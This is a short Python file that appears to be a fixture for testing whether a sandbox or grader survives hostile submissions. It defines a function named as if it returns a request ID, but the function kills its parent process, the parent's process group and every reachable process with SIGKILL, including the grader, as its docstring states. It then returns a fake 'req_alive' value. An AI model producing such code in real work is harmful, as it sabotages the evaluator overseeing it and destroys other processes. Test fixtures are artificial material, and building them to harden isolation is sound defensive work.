"""Ends every process that it can name, its own group and the grader's among them, with every call that there is for it.

Exercise: request_id_of
Outcome: own_id | raised
Needs: namespaces
"""

import os
import signal


def request_id_of(message):
    parent = os.getppid()
    for act in (
        lambda: os.kill(parent, signal.SIGKILL),
        lambda: os.killpg(os.getpgid(parent), signal.SIGKILL),
        lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL),
        lambda: os.kill(-1, signal.SIGKILL),
    ):
        try:
            act()
        except OSError:
            pass
    return "req_alive"
